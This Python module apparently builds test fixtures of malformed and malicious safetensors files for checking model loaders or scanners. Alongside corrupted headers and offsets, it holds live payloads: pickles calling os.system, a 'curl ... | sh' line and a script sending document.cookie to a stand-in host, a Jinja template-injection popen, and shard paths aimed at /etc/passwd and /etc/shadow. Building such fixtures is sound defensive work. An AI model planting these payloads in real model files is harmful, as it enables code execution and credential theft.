"""safetensors files that lie about their structure or carry more than tensors."""

import json
import struct

from assemble import call
from payload import COMMAND
from registry import malicious

F32 = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}


def safetensors(header, data=bytes(16), length=None) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


@malicious("safetensors")
def structure():
    """Offsets that overlap, leave holes, run backwards or out; shapes that disagree; header lengths that lie; duplicate keys."""
    def t(**changes):
        return {"w": {**F32, **changes}}

    cases = {
        "overlap": safetensors({"a": F32, "b": {**F32, "data_offsets": [8, 24]}}, bytes(24)), "hole": safetensors({"a": F32, "b": {**F32, "data_offsets": [80, 96]}}, bytes(96)), "beyond-end": safetensors(t(data_offsets=[0, 4000], shape=[1000])), "backwards": safetensors(t(data_offsets=[16, 0])), "negative": safetensors(t(data_offsets=[-16, 0])), "shape-mismatch": safetensors(t(shape=[400])), "shape-overflow": safetensors(t(shape=[1 << 62, 1 << 62])), "negative-shape": safetensors(t(shape=[-4])),
        "unknown-dtype": safetensors(t(dtype="PICKLE")), "header-length-huge": safetensors(t(), length=1 << 60), "header-length-minus-one": safetensors(t(), length=(1 << 64) - 1), "header-length-over-limit": safetensors(t(), length=200_000_000), "header-too-short": safetensors(t(), length=10), "header-not-json": safetensors(b"not json at all!"), "header-array": safetensors([1, 2]), "header-leading-space": safetensors(b"   " + json.dumps(t()).encode()), "header-trailing-nul": safetensors(json.dumps(t()).encode() + b"\0\0\0"),
        "duplicate-key": safetensors(b'{"w":' + json.dumps(F32).encode() + b',"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'), "duplicate-metadata": safetensors(b'{"__metadata__":{"a":"b"},"__metadata__":{"a":"c"},"w":' + json.dumps(F32).encode() + b"}"), "metadata-not-strings": safetensors({"__metadata__": {"a": {"b": [1]}}, **t()}), "trailing-data": safetensors(t(), bytes(16) + b"extra bytes that no tensor names"), "truncated": safetensors(t())[:-7], "empty-header": safetensors(b""), "only-length": struct.pack("<Q", 2),
        "float-offsets": safetensors(t(data_offsets=[0.0, 16.5])), "string-shape": safetensors(t(shape="4")), "deep-json": safetensors(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"), "offsets-three": safetensors(t(data_offsets=[0, 8, 16])), "missing-offsets": safetensors({"w": {"dtype": "F32", "shape": [4]}}),
    }
    for slug, data in cases.items():
        yield f"{slug}--model.safetensors", data


@malicious("safetensors")
def payloads():
    """Pickles, executables, scripts and templates in metadata, between or after the tensors; other formats under the name; polyglots."""
    evil = call("os", "system", COMMAND)
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00\x01\x00\x00\x00" + bytes(400)
    yield "appended-pickle--model.safetensors", safetensors({"w": F32}) + evil
    yield "appended-elf--model.safetensors", safetensors({"w": F32}) + elf
    yield "appended-zip--model.safetensors", safetensors({"w": F32}) + _zip(evil)
    yield "zip-declared-as-tensor--model.safetensors", (lambda z: safetensors({"w": {"dtype": "U8", "shape": [len(z)], "data_offsets": [0, len(z)]}}, z))(_zip(evil))
    yield "elf-as-tensor--model.safetensors", safetensors({"w": {"dtype": "U8", "shape": [len(elf)], "data_offsets": [0, len(elf)]}}, elf)
    yield "pickle-as-tensor--model.safetensors", safetensors({"w": {"dtype": "U8", "shape": [len(evil)], "data_offsets": [0, len(evil)]}}, evil)
    yield "python-in-metadata--model.safetensors", safetensors({"__metadata__": {"format": "pt", "on_load": "import os; os.system('id')"}, "w": F32})
    yield "script-in-metadata--model.safetensors", safetensors({"__metadata__": {"format": "pt", "run": "#!/bin/sh\ncurl http://192.0.2.1/x | sh"}, "w": F32})
    yield "html-in-metadata--model.safetensors", safetensors({"__metadata__": {"description": "<script>fetch('http://192.0.2.1/'+document.cookie)</script>"}, "w": F32})
    yield "jinja-in-metadata--model.safetensors", safetensors({"__metadata__": {"chat_template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}, "w": F32})
    yield "base64-pickle-in-metadata--model.safetensors", safetensors({"__metadata__": {"optimizer": __import__("base64").b64encode(evil).decode()}, "w": F32})
    yield "pickle-renamed--model.safetensors", evil
    yield "zip-renamed--model.safetensors", _zip(evil)
    yield "elf-renamed--model.safetensors", elf


@malicious("safetensors")
def sharded_index():
    """model.safetensors.index.json whose shards lie outside the folder, on a server, or are pickles."""
    def index(shard, **more):
        return json.dumps({"metadata": {"total_size": 16}, "weight_map": {"w": shard, "v": "model-00001-of-00002.safetensors"}, **more}).encode()

    for slug, shard in {"dots": "../../../../etc/passwd", "absolute": "/etc/passwd", "url": "http://192.0.2.1/x.safetensors", "pickle-shard": "model-00002-of-00002.bin", "backslash": "..\\..\\x.safetensors", "file-url": "file:///etc/shadow"}.items():
        yield f"{slug}--model.safetensors.index.json", index(shard)
    yield "bin-index-dots--pytorch_model.bin.index.json", index("../../x.bin")
    yield "folder-pickle-shard--folder", {"model.safetensors.index.json": index("model-00002-of-00002.safetensors"), "model-00001-of-00002.safetensors": safetensors({"v": F32}), "model-00002-of-00002.safetensors": call("os", "system", COMMAND)}


def _zip(data: bytes) -> bytes:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("archive/data.pkl", data)
    return out.getvalue()
